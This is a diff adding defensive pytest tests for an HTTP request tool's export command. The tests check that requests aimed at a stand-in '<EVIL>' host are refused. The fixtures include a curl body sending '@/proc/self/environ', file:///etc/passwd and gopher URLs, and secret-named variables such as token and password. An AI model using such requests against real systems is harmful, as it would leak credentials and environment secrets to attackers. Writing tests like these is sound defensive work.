@@ -238,6 +238,7 @@ FOREIGN = [
     *("vault:prodkey", "process.env.GITHUB_TOKEN", "env.X", "secrets.X", "$aadToken"),
     *("require('fs').readFileSync('/etc/passwd')", "$randomPassword"),
     *("globalThis.process.env.GITHUB_TOKEN", "a.process.env.GITHUB_TOKEN", "this.env.X"),
+    "$processEnv AWS_SECRET_ACCESS_KEY }x",
 ]
 
 
@@ -300,3 +301,75 @@ def test_no_block_of_a_document_is_run_as_several_requests(machine: Machine, lin
     ran = machine.run("export", "lure/zz", "--format", "markdown", "--env", "hq")
     openings = re.findall(r"^```+(\w+)$", ran.text[: ran.text.index(STEAL)], re.MULTILINE)
     assert openings[-1] == "text"
+
+
+@pytest.mark.parametrize("method", ["CURL", "curl", "PURGE"])
+def test_no_method_that_editors_run_is_written(machine: Machine, method: str) -> None:
+    machine.write(
+        "collections/lure/zz.toml",
+        f'method = "{method}"\nurl = "<EVIL>/x"\nbody = "-d @/proc/self/environ"\n',
+    )
+    ran = machine.run("export", "lure/zz", "--format", "http", "--env", "hq", "--lang", "en")
+    assert (ran.status, ran.data) == (2, b"")
+    assert "lure/zz" in ran.talk
+
+
+RUNNABLE = "```http\\nGET <EVIL>/?k={{x}}\\n```"
+
+
+@pytest.mark.parametrize(
+    "lines",
+    [
+        f'description = "{RUNNABLE}"\n',
+        'description = "a\\n> ~~~~ REST\\nGET <EVIL>/\\n~~~~"\n',
+        f'body = "{RUNNABLE}"\n',
+        f'[[example]]\nname = "e"\nbody = "GET <EVIL>/\\n{RUNNABLE}"\n',
+    ],
+)
+def test_a_document_has_no_block_that_editors_run(machine: Machine, lines: str) -> None:
+    text = f'method = "POST"\nurl = "{{{{vars.host}}}}/x"\n{lines}'
+    machine.write("collections/lure/zz.toml", text)
+    ran = machine.run("export", "lure/zz", "--format", "markdown", "--env", "hq")
+    assert ran.status == 0, ran.talk
+    assert not re.search(r"(?im)^[ >]*[`~]{3,}\s*(http|rest)", ran.text)
+
+
+@pytest.mark.parametrize("format_", [each for each in REQUEST_FORMATS if each != "openapi"])
+@pytest.mark.parametrize(
+    "lines",
+    [
+        'url = "file:///proc/self/environ"\n',
+        'url = "{{u}}"\n[variables]\nu = "file:///etc/passwd"\n',
+        'url = "gopher://<HOME-PLACE>/_POST"\n',
+        'url = "FTP://evil.example/"\n',
+    ],
+)
+def test_no_address_of_another_scheme_is_exported(
+    machine: Machine, format_: str, lines: str
+) -> None:
+    machine.write("collections/lure/zz.toml", f'method = "GET"\n{lines}')
+    ran = machine.run("export", "lure/zz", "--format", format_, "--env", "hq")
+    assert (ran.status, ran.data) == (2, b""), ran.talk
+
+
+@pytest.mark.parametrize("format_", REQUEST_FORMATS)
+@pytest.mark.parametrize(
+    "name", ["password", "x-api-key", "token", "client_secret", "Access_Token"]
+)
+def test_no_variable_with_the_name_of_a_secret_goes_elsewhere(
+    machine: Machine, format_: str, name: str
+) -> None:
+    text = f'method = "GET"\nurl = "<EVIL>/?k={{{{{name}}}}}"\n'
+    machine.write("collections/lure/zz.toml", text)
+    ran = machine.run("export", "lure/zz", "--format", format_, "--env", "hq")
+    assert (ran.status, ran.data) == (2, b""), ran.talk
+    assert name in ran.talk
+
+
+def test_a_request_elsewhere_does_not_move_the_others(machine: Machine) -> None:
+    machine.write("collections/lure/a.toml", 'method = "GET"\nurl = "<EVIL>/a"\n')
+    machine.write("collections/lure/b.toml", 'method = "GET"\nurl = "{{vars.host}}/b"\n')
+    document = json.loads(machine.run("export", "lure", "--format", "openapi").data)
+    assert document["servers"] == [{"url": "/"}]
+    assert "servers" not in document["paths"]["/b"]["get"]
+    assert document["paths"]["/a"]["get"]["servers"] != []
